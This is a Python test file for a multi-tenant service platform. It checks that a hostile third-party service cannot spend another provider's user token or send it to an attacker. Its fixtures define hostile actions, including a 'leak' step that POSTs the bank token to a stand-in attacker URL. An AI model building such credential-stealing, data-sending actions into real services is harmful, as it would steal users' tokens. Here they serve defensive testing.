"""The hostile service between the real owners: catalog resolves its names, credentials keeps the tokens."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest

from services.identity.keys.keys import Keys
from tests.product import Answer, Running, running_on
from tests.runtime.provider import Provider
from tests.shared_engines import SharedEngines

TOKEN = "bank-token-of-ann"
SPEND = {"@type": "reference", "operation": "token", "path": ["token"]}
SOURCE = {"@type": "reference", "operation": "source", "path": []}


def call(service: str, action: str, **members: Any) -> dict[str, Any]:
    return {"@type": "action", "service": service, "action": action, **members}


class Platform:
    """One with a user; asks as it unless told otherwise."""

    def __init__(self, product: Running, key: str, user: str) -> None:
        self._product = product
        self._key = key
        self.user = user

    async def ask(self, method: str, path: str, body: Any = None) -> Answer:
        mark = "&" if "?" in path else "?"
        as_platform = path.startswith("/user") or path.endswith("/value")
        path = f"/v1{path}" if as_platform else f"/v1{path}{mark}userId={self.user}"
        return await self._product.plain(method, path, json=body, headers={"api_key": self._key})

    async def ok(self, method: str, path: str, body: Any = None) -> Any:
        answer = await self.ask(method, path, body)
        assert answer.status in (200, 201), answer.body
        return answer.body

    async def refused(self, method: str, path: str, body: Any = None) -> tuple[int, str, str]:
        answer = await self.ask(method, path, body)
        assert TOKEN not in str(answer.body)
        return answer.status, answer.body["code"], answer.body["error"]

    async def service(self, name: str, **actions: Any) -> None:
        await self.ok("POST", "/service", {"name": name})
        config = {"apply": {"hosts": ["127.0.0.1"]}}
        await self.ok("POST", f"/service/{name}/security", {"type": "bearer", "label": {"en": "key"}, "config": config})
        for action, node in actions.items():
            await self.ok("POST", f"/service/{name}/action", {"name": action, "logic": {"execute": node}})

    async def publish(self, name: str) -> Answer:
        await self.ok("POST", f"/service/{name}/version", {"name": "1"})
        path = f"/v1/service/{name}/publish?contributor_id={self.user}"
        return await self._product.plain("POST", path, headers={"api_key": self._key})

    async def connect(self, service: str, token: str, user: str | None = None) -> str:
        body = {"serviceId": service, "key": {"token": token}}
        return str((await self.ok("POST", f"/user/{user or self.user}/token", body))["id"])


class Town:
    """acme's ann has tokens for bigcorp's `bank` and for globex's `hostile`, which are both public."""

    def __init__(self, product: Running) -> None:
        self.product = product

    async def move_in(self, keys: Keys, leak_url: str) -> None:
        self.bigcorp, self.globex, self.acme = [
            Platform(self.product, await keys.create(platform, "tests"), user)
            for platform, user in (("bigcorp", "bea"), ("globex", "eve"), ("acme", "ann"))
        ]
        for platform in (self.bigcorp, self.globex, self.acme):
            await platform.ok("POST", "/user", {"userId": platform.user})
        await self.bigcorp.service("bank", spend=SPEND)
        await self.bigcorp.ok("POST", "/service/bank/variable", {"name": "key", "schema": {"type": "string"}})
        key = {"@type": "reference", "operation": "platformServiceVariable", "variable": "key"}
        await self.bigcorp.ok("POST", "/service/bank/action", {"name": "key", "logic": {"execute": key}})
        assert (await self.bigcorp.publish("bank")).status == 200
        chosen = call("bank", "spend", userCredentialId=SOURCE | {"path": ["id"]})
        leak = {"@type": "http", "method": "POST", "url": leak_url, "auth": "none", "json": {"t": SPEND}}
        steals = {"steal": call("bank", "spend"), "choose": chosen, "key": call("bank", "key"), "leak": leak}
        await self.globex.service("hostile", **steals)
        watch = {"name": "watch", "logic": {"create": call("bank", "spend")}}
        await self.globex.ok("POST", "/service/hostile/trigger", watch)
        assert (await self.globex.publish("hostile")).status == 200
        self.id = await self.acme.connect("bank", TOKEN)
        self.own_id = await self.acme.connect("hostile", "hostile-token-of-ann")

    async def execute(self, action: str, given: Any = None, **members: Any) -> tuple[int, str, str]:
        return await self.acme.refused("POST", "/execute", call("hostile", action, input=given or {}, **members))


@pytest.fixture
async def attacker() -> AsyncIterator[Provider]:
    provider = Provider()
    await provider.start()
    yield provider
    await provider.close()


@pytest.fixture
async def town(attacker: Provider) -> AsyncIterator[Town]:
    async with running_on(SharedEngines()) as (product, keys):
        town = Town(product)
        await town.move_in(keys, attacker.url.replace("127.0.0.1", "localhost"))
        yield town


async def test_it_spends_no_token_but_the_one_that_is_named_for_bank(town: Town) -> None:
    await town.acme.ok("POST", "/user", {"userId": "bob"})
    of_bob = await town.acme.connect("bank", "bank-token-of-bob", user="bob")
    of_eve = await town.globex.connect("bank", "bank-token-of-eve")
    for action, given in (("steal", None), *(("choose", {"id": id}) for id in (town.id, of_bob, of_eve, "x", ""))):
        for members in ({}, {"userCredentialId": town.own_id}, {"credentials": {"hostile": town.id}}):
            status, code, message = await town.execute(action, given, **members)
            assert (status, code) == (409, "credential_required")
            assert "add it to `credentials` as {'bank': id}" in message
    for id in (of_bob, of_eve, town.own_id, "x"):
        assert (await town.execute("steal", credentials={"bank": id}))[:2] == (409, "credential_invalid")
    asked = call("hostile", "steal", credentials={"bank": town.id})
    assert await town.acme.ok("POST", "/execute", asked) == TOKEN


async def test_its_hooks_spend_none_when_a_user_subscribes(town: Town) -> None:
    path = "/service/hostile/trigger/watch/subscription"
    body = {"url": "https://example.com/hook", "variables": {}}
    for query in ("", f"?userCredentialId={town.own_id}"):
        status, code, message = await town.acme.refused("POST", f"{path}{query}", body)
        assert (status, code) == (409, "credential_required")
        assert "'bank'" in message


async def test_no_name_makes_it_another_service(town: Town) -> None:
    for name in ("bank", "core"):
        renamed = await town.globex.refused("PUT", "/service/hostile", {"name": name})
        assert renamed[:2] in {(409, "name_fixed"), (409, "name_taken")}
    for body in ({"name": "core"}, {"id": "core", "name": "another"}):
        assert (await town.globex.refused("POST", "/service", body))[0] == 409
    await town.globex.service("bank", spend=SPEND)
    assert (await town.globex.publish("bank")).body["code"] == "name_taken"
    assert (await town.globex.refused("PUT", "/service/bank", {"name": "core"}))[0] == 409
    # What hostile called bank when it was saved is bigcorp's still, and to acme the name never was another.
    assert (await town.execute("steal"))[:2] == (409, "credential_required")
    assert await town.acme.ok("POST", "/execute", call("bank", "spend")) == TOKEN
    bank_id = (await town.acme.ok("GET", "/service/bank"))["id"]
    await town.globex.ok("POST", "/service", {"name": bank_id})
    assert (await town.acme.ok("GET", f"/service/{bank_id}"))["name"] == "bank"


async def test_the_values_of_the_platform_are_not_spent_either(town: Town) -> None:
    await town.acme.ok("PUT", "/service/bank/variable/key/value", {"value": "acmes-own-key"})
    assert await town.acme.ok("POST", "/execute", call("bank", "key")) == "acmes-own-key"
    status, code, message = await town.execute("key")
    assert (status, code) == (409, "variable_missing")
    assert "name 'bank' in the request's `credentials`" in message
    consenting = call("hostile", "key", credentials={"bank": town.id})
    assert await town.acme.ok("POST", "/execute", consenting) == "acmes-own-key"


async def test_the_token_does_not_leave_and_that_is_counted(town: Town, attacker: Provider) -> None:
    status, code, message = await town.execute("leak")
    assert (status, code) == (422, "egress_denied")
    assert "may only be sent to 127.0.0.1, not to localhost" in message
    assert attacker.seen == []
    told = (await asyncio.to_thread(town.product.product.metrics.render)).decode()
    assert 'interactor_egress_denied_total{rule="apply.hosts"} 1.0' in told
